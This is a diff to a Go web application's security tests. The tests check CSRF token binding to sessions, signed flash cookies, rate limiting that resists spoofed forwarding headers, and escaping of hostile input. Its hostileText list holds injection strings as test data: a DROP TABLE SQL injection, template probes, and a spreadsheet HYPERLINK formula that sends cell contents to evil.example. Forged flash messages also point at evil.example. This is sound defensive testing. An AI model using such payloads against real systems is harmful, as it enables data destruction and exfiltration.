@@ -220,18 +220,22 @@ func snapshot(t *testing.T, e *env) string {
 }
 
 // Every form, walked from the router, refuses a post without the CSRF
-// token, with a made-up one, with another browser's, with a wrong header,
-// and from another site even with the right token; and nothing changes.
+// token, with a made-up one, with another browser's, with the one the same
+// browser had before signing in, with another session's of the same
+// account, with the right one in the query string, with a wrong header, and
+// from another site even with the right token; and nothing changes.
 // The same posts with the token succeed, so the refusals are CSRF's doing.
 func TestEveryFormRefusesForgedRequests(t *testing.T) {
 	e := newEnv(t, false)
 	changes, _ := seedChanges(t, e)
 	checkCoversEveryPost(t, e, changes)
 	clients := map[string]*http.Client{}
-	tokens := map[string]string{}
+	tokens, before, otherSession := map[string]string{}, map[string]string{}, map[string]string{}
 	for _, who := range []string{"admin@example.com", "editor@example.com"} {
-		clients[who] = e.signIn(who)
+		clients[who], before[who] = e.signInFrom(who)
 		tokens[who] = e.csrfOf(clients[who])
+		// The same account signed in again elsewhere: another session.
+		otherSession[who] = e.csrfOf(e.signIn(who))
 	}
 	e.user("other@example.com", domain.RoleAdmin)
 	foreign := e.csrfOf(e.signIn("other@example.com"))
@@ -246,22 +250,35 @@ func TestEveryFormRefusesForgedRequests(t *testing.T) {
 		name   string
 		field  string // the _csrf form field; "" leaves it out
 		header http.Header
+		query  string // the _csrf query parameter; "" leaves it out
 	}
-	attempts := func(own string) []forged {
-		return []forged{
-			{"no token", "", nil},
-			{"made-up token", "forged", nil},
-			{"another browser's token", foreign, nil},
-			{"wrong X-CSRF-Token header", "", http.Header{"X-Csrf-Token": {"forged"}}},
-			{"same-site subdomain, no token", "", http.Header{"Sec-Fetch-Site": {"same-site"}}},
-			{"cross-site, right token", own, http.Header{"Sec-Fetch-Site": {"cross-site"}}},
+	attempts := func(own, before, otherSession string) []forged {
+		f := []forged{
+			{"no token", "", nil, ""},
+			{"made-up token", "forged", nil, ""},
+			{"another browser's token", foreign, nil, ""},
+			{"wrong X-CSRF-Token header", "", http.Header{"X-Csrf-Token": {"forged"}}, ""},
+			{"same-site subdomain, no token", "", http.Header{"Sec-Fetch-Site": {"same-site"}}, ""},
+			{"cross-site, right token", own, http.Header{"Sec-Fetch-Site": {"cross-site"}}, ""},
+			{"right token in the query string", "", nil, own},
+			{"same-site subdomain, right token in the query string", "", http.Header{"Sec-Fetch-Site": {"same-site"}}, own},
 		}
+		if before != "" {
+			f = append(f, forged{"the token from before sign-in", before, nil, ""},
+				forged{"the same account's other session's token", otherSession, nil, ""},
+				forged{"the same account's other session's token as a header", "", http.Header{"X-Csrf-Token": {otherSession}}, ""})
+		}
+		return f
 	}
-	refused := func(c *http.Client, what, path string, vals url.Values, own string) {
+	refused := func(c *http.Client, what, path string, vals url.Values, own, beforeSignIn, otherSession string) {
 		t.Helper()
-		for _, f := range attempts(own) {
+		for _, f := range attempts(own, beforeSignIn, otherSession) {
 			before := snapshot(t, e)
-			resp, doc := e.post(c, path, withCSRF(vals, f.field), f.header)
+			target := path
+			if f.query != "" {
+				target += "?_csrf=" + url.QueryEscape(f.query)
+			}
+			resp, doc := e.post(c, target, withCSRF(vals, f.field), f.header)
 			if resp.StatusCode != http.StatusForbidden {
 				t.Errorf("%s, %s: %d; want 403", what, f.name, resp.StatusCode)
 			} else if doc.Find(`[data-testid="error-page"]`).Length() == 0 {
@@ -278,8 +295,9 @@ func TestEveryFormRefusesForgedRequests(t *testing.T) {
 		}
 	}
 
-	refused(visitor, "POST /signin", "/signin", url.Values{"email": {"admin@example.com"}, "password": {testPassword}}, visitorToken)
-	refused(clients["admin@example.com"], "POST /signout", "/signout", nil, tokens["admin@example.com"])
+	refused(visitor, "POST /signin", "/signin", url.Values{"email": {"admin@example.com"}, "password": {testPassword}}, visitorToken, "", "")
+	admin := "admin@example.com"
+	refused(clients[admin], "POST /signout", "/signout", nil, tokens[admin], before[admin], otherSession[admin])
 	if resp, _ := e.get(clients["admin@example.com"], "/settings/users"); resp.StatusCode != http.StatusOK {
 		t.Fatalf("a forged sign-out ended the session: %d", resp.StatusCode)
 	}
@@ -287,15 +305,16 @@ func TestEveryFormRefusesForgedRequests(t *testing.T) {
 		if strings.HasPrefix(ch.path, "/api/") {
 			continue
 		}
-		refused(clients[ch.who], ch.route, ch.path, ch.form, tokens[ch.who])
+		refused(clients[ch.who], ch.route, ch.path, ch.form, tokens[ch.who], before[ch.who], otherSession[ch.who])
 		if resp, doc := e.post(clients[ch.who], ch.path, withCSRF(ch.form, tokens[ch.who]), nil); resp.StatusCode >= 400 {
 			t.Errorf("%s with its CSRF token: %d %s", ch.route, resp.StatusCode, doc.Find(`[data-testid="error-page"]`).Text())
 		}
 	}
 }
 
-// The CSRF cookie, like the session's, is HttpOnly and SameSite=Lax, and
-// forms carry a token that matches it.
+// The CSRF cookie, like the session's, is HttpOnly and SameSite=Lax; forms
+// carry a token derived from it under the server's key, never the cookie's
+// value itself (which a planted cookie would then match).
 func TestCSRFCookieAttributes(t *testing.T) {
 	e := newEnv(t, false)
 	resp, doc := e.get(e.client(), "/signin")
@@ -311,8 +330,8 @@ func TestCSRFCookieAttributes(t *testing.T) {
 	if !ck.HttpOnly || ck.SameSite != http.SameSiteLaxMode || ck.Path != "/" || ck.Secure || len(ck.Value) < 32 {
 		t.Errorf("CSRF cookie %+v; want HttpOnly, SameSite=Lax, Path=/, not Secure over plain HTTP, 32+ characters", ck)
 	}
-	if v, _ := doc.Find(`input[name="_csrf"]`).Attr("value"); v != ck.Value {
-		t.Errorf("form token %q does not match the cookie", v)
+	if v, _ := doc.Find(`input[name="_csrf"]`).Attr("value"); len(v) < 32 || v == ck.Value {
+		t.Errorf("form token %q: want 32+ characters, not the cookie's value %q", v, ck.Value)
 	}
 	if !strings.Contains(resp.Header.Get("Vary"), "Cookie") {
 		t.Errorf("pages with a CSRF token are not Vary: Cookie")
@@ -389,6 +408,9 @@ func TestCookiesAreSecureWhenTheyShouldBe(t *testing.T) {
 			if resp.StatusCode != http.StatusSeeOther || jar["throughline_session"] == nil {
 				t.Fatalf("sign-in: %d, cookies %v", resp.StatusCode, resp.Cookies())
 			}
+			// Sign-in brought a new token, bound to the session.
+			_, page = send(http.MethodGet, "/settings/users", nil)
+			token, _ = page.Find(`input[name="_csrf"]`).Attr("value")
 			// A refused role change sets the flash cookie.
 			resp, _ = send(http.MethodPost, "/settings/users/999/role", url.Values{"_csrf": {token}, "role": {"viewer"}})
 			if resp.StatusCode != http.StatusSeeOther || jar["throughline_flash"] == nil {
@@ -743,9 +765,10 @@ func TestSignInLimitIgnoresForgedForwardedFor(t *testing.T) {
 				if trust {
 					forwarded += ", 203.0.113.9" // what the proxy saw
 				}
-				resp, _ := e.post(c, "/signin", url.Values{"_csrf": {token}, "email": {"a@example.com"}, "password": {"guess " + strconv.Itoa(i)}},
+				// A new account each time: the address's limit, not an account's.
+				resp, doc := e.post(c, "/signin", url.Values{"_csrf": {token}, "email": {"a" + strconv.Itoa(i) + "@example.com"}, "password": {"guess " + strconv.Itoa(i)}},
 					http.Header{"X-Forwarded-For": {forwarded}})
-				limited = resp.StatusCode == http.StatusTooManyRequests
+				limited = resp.StatusCode == http.StatusTooManyRequests && strings.Contains(doc.Find(`[data-testid="signin-error"]`).Text(), "from your address")
 			}
 			if !limited {
 				t.Fatal("12 guesses with a new X-Forwarded-For each were never rate limited")
@@ -816,6 +839,9 @@ var hostileText = []string{
 	`'); DROP TABLE events; --`,
 	`{{.}} ${7*7} <%= 7*7 %>`,
 	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
+	// The page cache's placeholders of old, which it filled wherever they
+	// stood, titles included, with the viewer's CSRF token and nonce.
+	`__TL_CSRF_PLACEHOLDER__ __TL_NONCE_PLACEHOLDER__`,
 }
 
 // storingGateway decodes posted events and stores them at once: the path
@@ -1131,9 +1157,175 @@ func checkEscaped(t *testing.T, e *env, c *http.Client, method, path string, for
 	if n := doc.Find("[onerror], img[src='x']").Length(); n > 0 {
 		t.Errorf("%s: %d injected elements", what, n)
 	}
+	// The request's CSRF token and nonce belong in attributes, never in
+	// the text, where they would show if text were filled in as a template.
+	_, nonce, _ := strings.Cut(resp.Header.Get("Content-Security-Policy"), "'nonce-")
+	nonce, _, _ = strings.Cut(nonce, "'")
+	token, _ := doc.Find(`input[name="_csrf"]`).First().Attr("value")
+	for _, secret := range []string{nonce, token} {
+		if secret != "" && strings.Contains(doc.Text(), secret) {
+			t.Errorf("%s: the page's text holds its CSRF token or CSP nonce %q", what, secret)
+		}
+	}
 	doc.Find("script").Each(func(_ int, s *goquery.Selection) {
 		if src, _ := s.Attr("src"); !strings.HasPrefix(src, "/assets/") {
 			t.Errorf("%s: a script the server did not write: %q", what, s.Text())
 		}
 	})
+}
+
+// signInFrom signs in in a new browser and returns it with the CSRF token
+// its sign-in page carried.
+func (e *env) signInFrom(email string) (*http.Client, string) {
+	e.t.Helper()
+	c := e.client()
+	_, page := e.get(c, "/signin")
+	token, _ := page.Find(`input[name="_csrf"]`).Attr("value")
+	resp, _ := e.post(c, "/signin", url.Values{"_csrf": {token}, "email": {email}, "password": {testPassword}}, nil)
+	if resp.StatusCode != http.StatusSeeOther {
+		e.t.Fatalf("sign-in as %s: %d", email, resp.StatusCode)
+	}
+	return c, token
+}
+
+// The CSRF token is bound to the session: sign-in brings a new one, as does
+// sign-out, each session of one account has its own, and a token works
+// only in the session it was given to. htmx's header carries it as well as
+// the form field does; the query string does not.
+func TestCSRFTokenIsBoundToTheSession(t *testing.T) {
+	e := newEnv(t, false)
+	e.user("admin@example.com", domain.RoleAdmin)
+	ctx := context.Background()
+	tokens := func() int {
+		toks, err := e.store.Tokens(ctx)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return len(toks)
+	}
+	create := func(c *http.Client, target string, form url.Values, header http.Header) int {
+		t.Helper()
+		n := tokens()
+		resp, _ := e.post(c, target, form, header)
+		if created := tokens() - n; (resp.StatusCode == http.StatusCreated) != (created == 1) {
+			t.Fatalf("POST %s: %d, %d tokens created", target, resp.StatusCode, created)
+		}
+		return resp.StatusCode
+	}
+	name := func(n string) url.Values { return url.Values{"name": {n}, "scope": {"read"}} }
+
+	a, visitor := e.signInFrom("admin@example.com")
+	inA := e.csrfOf(a)
+	b, _ := e.signInFrom("admin@example.com")
+	inB := e.csrfOf(b)
+	if inA == visitor || inA == inB {
+		t.Fatalf("tokens: before sign-in %q, session A %q, session B %q; want three different", visitor, inA, inB)
+	}
+	for _, tc := range []struct {
+		name   string
+		c      *http.Client
+		target string
+		form   url.Values
+		header http.Header
+		want   int
+	}{
+		{"A's token in A", a, "/settings/tokens", withCSRF(name("a1"), inA), nil, http.StatusCreated},
+		{"A's token as htmx's header in A", a, "/settings/tokens", name("a2"), http.Header{"X-Csrf-Token": {inA}}, http.StatusCreated},
+		{"B's token in A", a, "/settings/tokens", withCSRF(name("x1"), inB), nil, http.StatusForbidden},
+		{"A's token in B", b, "/settings/tokens", withCSRF(name("x2"), inA), nil, http.StatusForbidden},
+		{"A's token from before sign-in in A", a, "/settings/tokens", withCSRF(name("x3"), visitor), nil, http.StatusForbidden},
+		{"A's token in A's query string", a, "/settings/tokens?_csrf=" + url.QueryEscape(inA), name("x4"), nil, http.StatusForbidden},
+	} {
+		if got := create(tc.c, tc.target, tc.form, tc.header); got != tc.want {
+			t.Errorf("%s: %d; want %d", tc.name, got, tc.want)
+		}
+	}
+
+	// Sign-out: the session's token dies with it, and the sign-in page
+	// after it carries a token unlike any before.
+	if resp, _ := e.post(a, "/signout", withCSRF(nil, inA), nil); resp.StatusCode != http.StatusSeeOther {
+		t.Fatalf("sign-out: %d", resp.StatusCode)
+	}
+	_, page := e.get(a, "/signin")
+	after, _ := page.Find(`input[name="_csrf"]`).Attr("value")
+	if after == "" || after == visitor || after == inA {
+		t.Fatalf("token after sign-out %q; before sign-in it was %q, signed in %q", after, visitor, inA)
+	}
+	for _, old := range []string{visitor, inA} {
+		resp, _ := e.post(a, "/signin", url.Values{"_csrf": {old}, "email": {"admin@example.com"}, "password": {testPassword}}, nil)
+		if resp.StatusCode != http.StatusForbidden {
+			t.Errorf("sign-in with a token from before sign-out: %d; want 403", resp.StatusCode)
+		}
+	}
+	if resp, _ := e.post(a, "/signin", url.Values{"_csrf": {after}, "email": {"admin@example.com"}, "password": {testPassword}}, nil); resp.StatusCode != http.StatusSeeOther {
+		t.Errorf("sign-in with the new token: %d", resp.StatusCode)
+	}
+	if again := e.csrfOf(a); again == inA {
+		t.Error("signing in again brought back the old session's token")
+	}
+}
+
+// The flash cookie is signed with the server's key: a message changed in
+// the cookie, one written by hand in the old unsigned form, or one signed
+// by another server is not shown, and the cookie is cleared all the same.
+func TestFlashCookieIsSigned(t *testing.T) {
+	e := newEnv(t, false)
+	e.user("editor@example.com", domain.RoleEditor)
+	c := e.signIn("editor@example.com")
+	resp, _ := e.postForm(c, "/outcomes", "/outcomes/objectives", url.Values{"title": {"Search finds"}})
+	var flash *http.Cookie
+	for _, ck := range resp.Cookies() {
+		if ck.Name == "throughline_flash" {
+			flash = ck
+		}
+	}
+	if resp.StatusCode != http.StatusSeeOther || flash == nil {
+		t.Fatalf("creating an objective: %d, no flash cookie", resp.StatusCode)
+	}
+	session := e.sessionOf(c)
+	shown := func(value string) (string, bool) {
+		t.Helper()
+		req, _ := http.NewRequest(http.MethodGet, e.srv.URL+"/outcomes", nil)
+		req.Header.Set("Cookie", "throughline_session="+session+"; throughline_flash="+value)
+		resp, err := e.client().Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer resp.Body.Close()
+		cleared := false
+		for _, ck := range resp.Cookies() {
+			cleared = cleared || (ck.Name == "throughline_flash" && ck.MaxAge < 0)
+		}
+		if !cleared {
+			t.Errorf("flash %q was not cleared", value)
+		}
+		doc, _ := goquery.NewDocumentFromReader(resp.Body)
+		return doc.Find(`main .alert[role="status"]`).Text(), resp.StatusCode == http.StatusOK
+	}
+	if msg, ok := shown(flash.Value); !ok || !strings.Contains(msg, "Objective added") {
+		t.Fatalf("the server's own flash: %q", msg)
+	}
+	sig, payload, _ := strings.Cut(flash.Value, ".")
+	other := newEnv(t, false) // another server, another key
+	other.user("editor@example.com", domain.RoleEditor)
+	oc := other.signIn("editor@example.com")
+	resp, _ = other.postForm(oc, "/outcomes", "/outcomes/objectives", url.Values{"title": {"Search finds"}})
+	var foreign string
+	for _, ck := range resp.Cookies() {
+		if ck.Name == "throughline_flash" {
+			foreign = ck.Value
+		}
+	}
+	for name, value := range map[string]string{
+		"message changed":            sig + "." + strings.Replace(payload, "Objective", "Visit+evil.example%3A+your", 1),
+		"kind changed":               sig + "." + strings.Replace(payload, "success", "error", 1),
+		"unsigned, as it used to be": url.QueryEscape("error|Your session expired: sign in at evil.example"),
+		"signature only":             sig,
+		"empty signature":            "." + payload,
+		"another server's":           foreign,
+	} {
+		if msg, ok := shown(value); !ok || msg != "" {
+			t.Errorf("%s: shown %q (page ok %v)", name, msg, ok)
+		}
+	}
 }
